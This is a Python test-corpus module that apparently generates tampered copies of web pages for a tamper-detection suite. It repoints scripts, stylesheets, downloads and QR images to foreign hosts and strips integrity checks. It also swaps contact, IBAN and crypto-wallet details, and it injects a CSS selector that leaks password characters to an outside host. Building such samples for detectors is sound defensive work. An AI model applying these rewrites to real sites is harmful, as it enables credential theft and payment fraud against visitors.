"""What the page loads or tells visitors to use, exchanged for something else."""

# ruff: noqa: E501 — markup and scripts read best unbroken

from __future__ import annotations

import re
from random import Random

from tests.tamper.corpus.attacks.kit import address, attack, host, insert
from tests.tamper.corpus.markup import Document, Edit, Element, apply, set_attribute
from tests.tamper.corpus.site import Site, token


def _repoint(site: Site, document: Document, rng: Random, elements: list[Element], key: str) -> str | None:
    """The same file name, from another host."""
    if not elements:
        return None
    element = rng.choice(elements)
    name = element.attributes.get(key, "").split("?")[0].rstrip("/").rpartition("/")[2] or "a.js"
    tag = set_attribute(document.source[element.start : element.inner], key, address(rng, site, name))
    if "integrity" in element.attributes:
        tag = re.sub(r"\s+integrity\s*=\s*(\"[^\"]*\"|'[^']*')", "", tag)
    return apply(document.source, [Edit(element.start, element.inner, tag)])


@attack("script_repointed", "resource_replaced")
def script_repointed(site: Site, document: Document, rng: Random) -> str | None:
    return _repoint(
        site, document, rng, [s for s in document.find("script") if s.attributes.get("src")], "src"
    )


@attack("stylesheet_repointed", "resource_replaced")
def stylesheet_repointed(site: Site, document: Document, rng: Random) -> str | None:
    links = [
        e
        for e in document.find("link")
        if "stylesheet" in e.attributes.get("rel", "").lower() and e.attributes.get("href")
    ]
    return _repoint(site, document, rng, links, "href")


@attack("stylesheet_import", "resource_replaced")
def stylesheet_import(site: Site, document: Document, rng: Random) -> str | None:
    source = address(rng, site, "style.css")
    html = rng.choice([
        f"<style>@import url({source});</style>", f'<link rel="stylesheet" href="{source}">',
        f'<style>input[type=password][value$="a"]{{background:url({source}?a)}}</style>', f"<style>body{{background:url({source}/bg.png)!important}}</style>",
    ])  # fmt: skip
    return insert(document, rng.choice([document.head_end, document.body_end]), html)


@attack("logo_swapped", "resource_replaced", needs=("logo",))
def logo_swapped(site: Site, document: Document, rng: Random) -> str | None:
    images = [
        i
        for i in document.find("img")
        if re.search("logo|brand", str(i.attributes), re.I) and i.attributes.get("src")
    ]
    return _repoint(site, document, rng, images, "src")


@attack("favicon_swapped", "resource_replaced", needs=("favicon",))
def favicon_swapped(site: Site, document: Document, rng: Random) -> str | None:
    icons = [
        e
        for e in document.find("link")
        if "icon" in e.attributes.get("rel", "").lower() and e.attributes.get("href")
    ]
    return _repoint(site, document, rng, icons, "href")


@attack("download_repointed", "resource_replaced", needs=("download",))
def download_repointed(site: Site, document: Document, rng: Random) -> str | None:
    files = [
        a
        for a in document.find("a")
        if re.search(r"\.(zip|exe|apk|dmg|msi|pdf|gz|deb|rar)(\?|$)", a.attributes.get("href", ""), re.I)
    ]
    return _repoint(site, document, rng, files, "href")


@attack("qr_swapped", "resource_replaced", needs=("donation",))
def qr_swapped(site: Site, document: Document, rng: Random) -> str | None:
    images = [
        i
        for i in document.find("img")
        if re.search("qr", str(i.attributes), re.I) and i.attributes.get("src")
    ]
    return _repoint(site, document, rng, images, "src")


def _swap(document: Document, pattern: str, replacement: str) -> str | None:
    """Every place that shows the token, in text and in addresses, shows the other one."""
    found = re.search(pattern, document.source[document.body_start :])
    if found is None:
        return None
    return document.source.replace(found[0], replacement)


@attack("phone_swapped", "resource_replaced", needs=("contact",))
def phone_swapped(site: Site, document: Document, rng: Random) -> str | None:
    found = re.search(r"\+\d{1,3}[ \-]\d{2,4}[ \-]\d{3}[ \-]?\d{3,4}", document.source[document.body_start :])
    if found is None:
        return None
    old = found[0]
    new = old[:4] + "".join(rng.choice("0123456789") if c.isdigit() else c for c in old[4:])
    source = document.source.replace(old, new).replace(re.sub(r"[ -]", "", old), re.sub(r"[ -]", "", new))
    return source if new != old else None


@attack("mail_swapped", "resource_replaced", needs=("contact",))
def mail_swapped(site: Site, document: Document, rng: Random) -> str | None:
    domain = rng.choice(["gmail.com", "protonmail.com", "mail.ru", "qq.com", host(rng, site).split(":")[0]])
    name = rng.choice(
        [site.owner.split(".")[0] + ".service", "support." + token(rng, 3), "info" + str(rng.randrange(99))]
    )
    return _swap(document, r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+", f"{name}@{domain}")


@attack("iban_swapped", "resource_replaced", needs=("donation",))
def iban_swapped(site: Site, document: Document, rng: Random) -> str | None:
    account = f"{rng.choice(['LT', 'EE', 'GB', 'ES'])}{rng.randrange(10, 98)} {rng.randrange(1000, 9999)} {rng.randrange(1000, 9999)} {rng.randrange(1000, 9999)} {rng.randrange(1000, 9999)}"
    return _swap(document, r"\b[A-Z]{2}\d{2}(?: \d{4}){4,5}\b", account)


@attack("crypto_swapped", "resource_replaced", needs=("donation",))
def crypto_swapped(site: Site, document: Document, rng: Random) -> str | None:
    coin = token(rng, 33, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
    return _swap(document, r"\b(?:bc1[a-z0-9]{20,60}|[13][1-9A-HJ-NP-Za-km-z]{30,34})\b", "1" + coin)


@attack("images_repointed", "resource_replaced")
def images_repointed(site: Site, document: Document, rng: Random) -> str | None:
    """All own pictures come from one foreign host."""
    images = [
        i
        for i in document.find("img")
        if site.is_own(i.attributes.get("src", "")) and i.attributes.get("src")
    ]
    if len(images) < 3:
        return None
    source = address(rng, site, "p.jpg")
    return apply(
        document.source,
        [
            Edit(i.start, i.inner, set_attribute(document.source[i.start : i.inner], "src", source))
            for i in images
        ],
    )
